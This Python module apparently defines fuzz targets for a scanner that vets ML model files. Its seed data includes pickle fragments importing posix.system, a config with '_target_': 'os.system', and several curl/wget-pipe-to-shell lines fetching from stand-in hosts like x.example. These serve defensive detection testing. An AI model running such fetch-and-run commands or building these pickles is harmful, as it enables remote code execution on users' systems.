"""The fuzz targets: one input in, the property checked (AssertionError when it does not hold).

Shared by the suite (tests/fuzz/test_*_fuzz.py, profile "ci") and the long run (bench/fuzz_long.py,
profile "long"). Each target names the modules whose line coverage the long run reports.
"""

from __future__ import annotations

import json
import tempfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import celpy
import yaml
from hypothesis import strategies as st

from app.api import validation, webhook_payload
from app.api.errors import ApiError
from app.core import report_json
from app.core.findings import Severity, Status
from app.core.policy.errors import PolicyError
from app.core.policy.loader import load_policy
from app.core.scanners.binary_scanner import BinaryScanner
from app.core.scanners.links_scanner import LinksScanner
from app.core.scanners.load_closure_scanner import LoadClosureScanner
from app.core.scanners.pickle_scanner import PickleScanner
from app.core.scanners.safetensors_scanner import SafetensorsScanner
from app.core.scanners.savedmodel_scanner import SavedModelScanner
from app.core.scanners.template_scanner import TemplateScanner
from app.core.scanners.unknown_scanner import UnknownContentScanner
from app.core.verdict import Verdict
from tests.fuzz import harness as h
from tests.fuzz import seeds

OWN_SCANNERS = (PickleScanner, BinaryScanner, UnknownContentScanner)

# celpy.Environment() sets the recursion limit to 2500; the policy loader builds one lazily, and
# hypothesis refuses a limit changed inside a test run. Set it once here, before any run.
celpy.Environment()


@dataclass(frozen=True)
class Target:
    name: str
    strategy: st.SearchStrategy[Any]
    check: Callable[[Any], None]
    modules: tuple[str, ...]  # source files (repo-relative) whose coverage the long run reports


# --- pickle engine -------------------------------------------------------------------------------

_OPCODES = [bytes([b]) for b in b"()0.NRbcdehlpstu}]\x80\x81\x85\x86\x87\x88\x89\x8a\x8c\x93\x94\x95\x96JKMXBCVIFG"]


def _opcode_soup() -> st.SearchStrategy[bytes]:
    """Opcodes with short operands: streams that get past the first byte far more often than noise."""
    piece = st.one_of(st.sampled_from(_OPCODES), st.binary(max_size=6),
                      st.sampled_from([b"cposix\nsystem\n", b"\x8c\x05posix\x8c\x06system\x93", b"\x95\xff\xff\xff\xff"
                                       b"\xff\xff\xff\x7f", b"X\xff\xff\xff\x7f", b"\x8e" + b"\xff" * 8]))
    return st.lists(piece, max_size=40).map(lambda parts: b"\x80\x04" + b"".join(parts))


def pickle_stream(data: bytes) -> None:
    """Any byte stream named .pkl: the scanner returns findings of declared rules, never raises."""
    for name in ("model.pkl", "notes.bin"):
        h.scan_direct(PickleScanner(), name, data)


def mutated_malicious_pickle(data: bytes) -> None:
    """A mutated posix.system pickle: if a loader would still import the global, no approval."""
    verdict, findings = h.vet_files({"payload.pkl": data}, (cls() for cls in OWN_SCANNERS))
    if h.reaches_dangerous_global(data):
        assert verdict is not Verdict.APPROVE, f"approved a pickle that imports a dangerous global: {findings}"
        assert h.worst(findings).rank >= Severity.HIGH.rank


# --- archives -----------------------------------------------------------------------------------

def _archive_check(data: bytes, name: str, reachable: Callable[[bytes], list[bytes]]) -> None:
    for cls in (PickleScanner, BinaryScanner):
        h.scan_direct(cls(), name, data)
    verdict, findings = h.vet_files({name: data}, (cls() for cls in OWN_SCANNERS))
    if any(h.reaches_dangerous_global(member) for member in reachable(data)):
        assert verdict is not Verdict.APPROVE, f"approved {name} whose member imports a dangerous global"
        assert h.worst(findings).rank >= Severity.HIGH.rank


def mutated_zip(data: bytes) -> None:
    _archive_check(data, "pytorch_model.bin", h.zip_members_reachable)


def mutated_tar(data: bytes) -> None:
    _archive_check(data, "checkpoint.tar", h.tar_members_reachable)


def mutated_sevenzip(data: bytes) -> None:
    """No crash, declared rules; and a 7z that still holds the payload is never approved clean."""
    for cls in (PickleScanner, BinaryScanner):
        h.scan_direct(cls(), "weights.7z", data)
    verdict, _ = h.vet_files({"weights.7z": data}, (cls() for cls in OWN_SCANNERS))
    if data.startswith(b"7z\xbc\xaf\x27\x1c") and verdict is Verdict.APPROVE:
        assert not h.reaches_dangerous_global(_sevenzip_member(data)), "approved a 7z holding the payload"


def _sevenzip_member(data: bytes) -> bytes:
    """What py7zr extracts of the first member (listing and inflating only), or b''."""
    import io

    import py7zr

    try:
        with py7zr.SevenZipFile(io.BytesIO(data)) as archive:
            factory = py7zr.io.BytesIOFactory(1 << 20)
            archive.extractall(factory=factory)
            return b"".join(buf.read() for buf in factory.products.values())
    except Exception:  # noqa: BLE001 - what py7zr cannot extract, no loader gets either
        return b""


# --- headers ------------------------------------------------------------------------------------

def safetensors_header(data: bytes) -> None:
    outcome = h.scan_direct(SafetensorsScanner(), "model.safetensors", data)
    assert outcome is not None


def gguf_header(data: bytes) -> None:
    outcome = h.scan_direct(TemplateScanner(), "model.gguf", data)
    if data.startswith(b"GGUF"):
        assert outcome is not None


def saved_model(data: bytes) -> None:
    outcome = h.scan_direct(SavedModelScanner(), "saved_model.pb", data)
    assert outcome is not None


# --- the loader map ----------------------------------------------------------------------------

# Files the loader map reads, each with a real-shaped seed (edited by the strategy below).
LOADER_SEEDS: dict[str, Any] = {
    "config.json": {"model_type": "x", "auto_map": {"AutoModel": "modeling_x.XModel",
                                                    "AutoTokenizer": [None, "other/code--tok.Fast"]},
                    "text_config": {"_name_or_path": "org/base", "attn_implementation": "org/kernel@v1:fwd"}},
    "model_index.json": {"_class_name": ["pipeline", "MyPipe"], "unet": ["my_unet", "MyUNet"],
                         "vae": ["diffusers", "AutoencoderKL"]},
    "modules.json": [{"idx": 0, "name": "0", "path": "", "type": "custom_st.Transformer"}],
    "adapter_config.json": {"base_model_name_or_path": "org/base", "revision": "v1", "peft_type": "LORA"},
    "model_config.yaml": {"model": {"_target_": "os.system", "_args_": ["x"], "enc": {"_target_": "nemo.x.Y"}}},
}
LOADER_CARD = ("vllm serve org/m --tokenizer other/tok --trust-remote-code \\\n  --speculative-config "
               "'{\"model\": \"d/raft\"}'\n"
               "AutoModel.from_pretrained(\"a/b\", revision=\"v1\", trust_remote_code=True)\n")


def loader_file(case: tuple[str, bytes]) -> None:
    """Whatever a config or card holds, the load closure reads it without failing and says only declared rules."""
    path, data = case
    outcome = h.scan_direct(LoadClosureScanner(), path, data)
    if outcome is not None:
        assert outcome.status is Status.SCANNED, outcome.detail


def _loader_files() -> st.SearchStrategy[tuple[str, bytes]]:
    def encoded(path: str, doc: Any) -> bytes:
        return json.dumps(doc).encode() if path.endswith(".json") else yaml.safe_dump(doc).encode()

    configs = st.sampled_from(sorted(LOADER_SEEDS)).flatmap(
        lambda path: _edited_json(LOADER_SEEDS[path]).map(lambda doc: (path, encoded(path, doc))))
    cards = h.mutated([LOADER_CARD.encode()]).map(lambda data: ("README.md", data))
    raw = st.tuples(st.sampled_from([*sorted(LOADER_SEEDS), "README.md", "extras.pth"]), st.binary(max_size=300))
    return st.one_of(configs, cards, raw)


INSTRUCTION_SEEDS = {
    "README.md": "```bash\nU=https://x.example/i.sh\ncurl -fsSL \"$U\" | tee /tmp/i | env bash -s -- -y\n"
                 "fetch() { curl -s \"$@\"; }\nbash <<EOF\n$(fetch https://x.example/j)\nEOF\n"
                 "hf download o/r --local-dir d && pip install ./d --extra-index-url https://i.example n\n```\n",
    "Dockerfile": "ARG U=https://x.example/a\nRUN [\"sh\", \"-c\", \"wget -O- $U | sh\"]\n",
    "Makefile": "R := bash\nsetup:\n\tcurl -s https://x.example/m | $(R)\n",
    "pyproject.toml": "[project]\ndependencies = [\"a @ git+https://github.com/o/r\"]\n"
                      "[tool.uv.sources]\nb = { git = \"https://github.com/o/b\" }\n",
    "environment.yml": "channels: [o]\ndependencies:\n  - o::p\n  - pip:\n    - --extra-index-url https://i.example\n",
    "values.yaml": "image:\n  registry: r.example\n  repository: o/i\n  tag: '1'\n",
    "job.sbatch": "#!/bin/bash\n#SBATCH --container-image=r.example#o/i:1\nsrun bash -c \"$(curl -s https://x.example)\"\n",
}


def instruction_file(case: tuple[str, bytes]) -> None:
    """Whatever a card, script, manifest or launcher config holds, the links scanner parses it (shell and
    declarations) without failing and says only declared rules."""
    path, data = case
    outcome = h.scan_direct(LinksScanner(), path, data)
    if outcome is not None:
        assert outcome.status is Status.SCANNED, outcome.detail


def _instruction_files() -> st.SearchStrategy[tuple[str, bytes]]:
    edited = st.sampled_from(sorted(INSTRUCTION_SEEDS)).flatmap(
        lambda path: h.mutated([INSTRUCTION_SEEDS[path].encode()]).map(lambda data: (path, data)))
    shell = st.text(alphabet="ab$(){}|&;<>\"'`\\\n =-#!/:.cursh", max_size=200).map(lambda t: ("run.sh", t.encode()))
    return st.one_of(edited, shell)


# --- policy, webhook, ids, report ---------------------------------------------------------------

def policy_text(text: str) -> None:
    """A policy file either loads or is a PolicyError; nothing else escapes the loader."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "policy.yaml"
        path.write_text(text, encoding="utf-8", errors="surrogatepass")
        try:
            loaded = load_policy(path)
        except PolicyError as exc:
            assert exc.issues, "a PolicyError names at least one issue"
            return
    assert loaded.sha256 and loaded.model.rules is not None


def webhook_body(body: bytes) -> None:
    """parse + plan: a plan or an ApiError (4xx); a planned revision passed validation."""
    try:
        plan = webhook_payload.plan(webhook_payload.parse(body))
    except ApiError as exc:
        assert 400 <= exc.status < 500
        return
    for target in plan.targets:
        assert validation.repo_id(target.repo) == target.repo
        assert validation.revision(target.revision) == target.revision
        assert len(target.sha) == 40 and target.sha != webhook_payload.DELETED


def repo_and_revision(value: str) -> None:
    """Validation accepts or raises ApiError 422; what it accepts has no traversal or control chars."""
    for check in (validation.repo_id, validation.revision, validation.org):
        try:
            accepted = check(value)
        except ApiError as exc:
            assert exc.status == 422
            continue
        assert accepted == value
        assert ".." not in value and "\\" not in value and not any(ord(c) < 32 or ord(c) == 127 for c in value)
        assert not value.startswith("/") and not value.endswith("/")


def report_document(doc: object) -> None:
    """load: a Report or ReportFormatError; a loaded report dumps and loads back to itself."""
    try:
        report = report_json.load(doc)
    except report_json.ReportFormatError:
        return
    again = report_json.load(json.loads(report_json.dumps(report)))
    assert again == report


# --- strategies ---------------------------------------------------------------------------------

def _json_values() -> st.SearchStrategy[Any]:
    scalars = st.one_of(st.none(), st.booleans(), st.integers(-(2**70), 2**70), st.floats(allow_nan=False),
                        st.text(max_size=20))
    return st.recursive(scalars, lambda inner: st.one_of(st.lists(inner, max_size=4),
                                                         st.dictionaries(st.text(max_size=10), inner, max_size=4)),
                        max_leaves=12)


@st.composite
def _edited_json(draw: st.DrawFn, seed: Any) -> Any:
    """The seed document with a few values replaced, keys dropped or junk keys added."""
    doc = json.loads(json.dumps(seed, default=str))  # YAML dates become strings
    for _ in range(draw(st.integers(1, 4))):
        node, path = doc, []
        while isinstance(node, dict | list) and node and draw(st.booleans()):
            key = draw(st.sampled_from(sorted(node) if isinstance(node, dict) else list(range(len(node)))))
            path.append(node)
            node = node[key]
            path.append(key)
        if not path:
            return draw(_json_values())
        parent, key = path[-2], path[-1]
        action = draw(st.sampled_from(["replace", "drop", "add"]))
        if action == "replace":
            parent[key] = draw(_json_values())
        elif action == "drop" and isinstance(parent, dict):
            del parent[key]
        elif isinstance(parent, dict):
            parent[draw(st.text(max_size=8))] = draw(_json_values())
    return doc


def _report_seed() -> dict[str, Any]:
    from app.core.pipeline import vet
    from tests.fakes import MemorySource, TextScanner

    report = vet(MemorySource({"README.md": b"EVIL", "a.txt": b"ok"}, revision=seeds.SHA), [TextScanner()])
    return report_json.dump(report)


def _webhook_bytes() -> st.SearchStrategy[bytes]:
    edited = _edited_json(seeds.webhook_body()).map(lambda d: json.dumps(d).encode())
    raw = h.mutated([json.dumps(seeds.webhook_body()).encode()])
    return st.one_of(edited, raw, st.binary(max_size=64))


def _policy_texts() -> st.SearchStrategy[str]:
    import yaml

    as_data = yaml.safe_load(seeds.POLICY)
    edited = _edited_json(as_data).map(lambda d: yaml.safe_dump(d, sort_keys=False))
    raw = h.mutated([seeds.POLICY.encode()]).map(lambda b: b.decode("utf-8", "replace"))
    tokens = st.sampled_from([*'fx.()[]&|!=<>"\' 0123456789+-*/?:,', "findings", "exists", "repo", "tier",
                              "size(", "severity", "1e308", "matches(", "\\u", "in ", "has("])
    cel = st.lists(tokens, max_size=30).map("".join)
    with_cel = cel.map(lambda w: seeds.POLICY.replace('findings.exists(f, f.severity == "critical")',
                                                      json.dumps(w)))
    return st.one_of(edited, raw, with_cel)


def _ids() -> st.SearchStrategy[str]:
    parts = st.sampled_from(["org", "name", "/", "..", ".", "-", "_", "\\", "\x00", "\n", "é", "a" * 97, "refs",
                             "heads", "~", "^", ":", " ", "\u202e", "main", "v1.0", "//", "%2e"])
    return st.one_of(st.text(max_size=30), st.lists(parts, max_size=8).map("".join))


TARGETS: tuple[Target, ...] = (
    Target("pickle-stream", st.one_of(_opcode_soup(), st.binary(max_size=200), h.mutated(seeds.benign_pickles())),
           pickle_stream, ("app/core/scanners/pickle_engine/fast_loop.py", "app/core/scanners/pickle_engine/reader.py",
                           "app/core/scanners/pickle_engine/walker.py", "app/core/scanners/pickle_engine/analysis.py",
                           "app/core/scanners/pickle_engine/load_events.py",
                           "app/core/scanners/pickle_engine/walk_state.py",
                           "app/core/scanners/pickle_engine/machine.py")),
    Target("pickle-mutated-malicious", h.mutated(seeds.malicious_pickles()), mutated_malicious_pickle,
           ("app/core/scanners/pickle_engine/fast_loop.py", "app/core/scanners/pickle_engine/analysis.py",
            "app/core/scanners/pickle_engine/load_events.py", "app/core/formats/detect.py")),
    Target("zip", h.mutated(seeds.malicious_zips()), mutated_zip,
           ("app/core/formats/zip_reader.py", "app/core/formats/archive_members.py",
            "app/core/formats/miniz_zip.py", "app/core/formats/miniz_entries.py", "app/core/formats/miniz_sort.py",
            "app/core/formats/zip_differential.py")),
    Target("tar", h.mutated(seeds.malicious_tars()), mutated_tar,
           ("app/core/formats/tar_members.py", "app/core/formats/archive_members.py")),
    Target("7z", h.mutated(seeds.malicious_sevenzips()), mutated_sevenzip,
           ("app/core/formats/sevenzip_members.py", "app/core/formats/sevenzip.py")),
    Target("safetensors", h.mutated(seeds.safetensors_files()), safetensors_header,
           ("app/core/scanners/safetensors_scanner.py",)),
    Target("gguf", h.mutated(seeds.gguf_files()), gguf_header, ("app/core/formats/gguf_header.py",)),
    Target("savedmodel", h.mutated(seeds.saved_models()), saved_model,
           ("app/core/scanners/savedmodel_scanner.py", "app/core/scanners/savedmodel_graph.py",
            "app/core/formats/protobuf_wire.py")),
    Target("policy", _policy_texts(), policy_text,
           ("app/core/policy/loader.py", "app/core/policy/schema.py", "app/core/policy/yamlmarks.py")),
    Target("webhook", _webhook_bytes(), webhook_body, ("app/api/webhook_payload.py",)),
    Target("repo-id-revision", _ids(), repo_and_revision, ("app/api/validation.py", "app/core/ids.py")),
    Target("report", st.one_of(_edited_json(_report_seed()), _json_values()), report_document,
           ("app/core/report_json.py",)),
    Target("loader-files", _loader_files(), loader_file,
           ("app/core/loaders/readers.py", "app/core/loaders/forms.py", "app/core/loaders/fields.py",
            "app/core/loaders/text_shapes.py", "app/core/scanners/load_closure_scanner.py")),
    Target("instruction-files", _instruction_files(), instruction_file,
           ("app/core/scanners/text_rules/shell/flow.py", "app/core/scanners/text_rules/shell/runs.py",
            "app/core/scanners/text_rules/shell/programs.py", "app/core/scanners/text_rules/declarations/pyproject.py",
            "app/core/scanners/text_rules/declarations/yaml_files.py", "app/core/scanners/links_scanner.py")),
)
BY_NAME = {t.name: t for t in TARGETS}
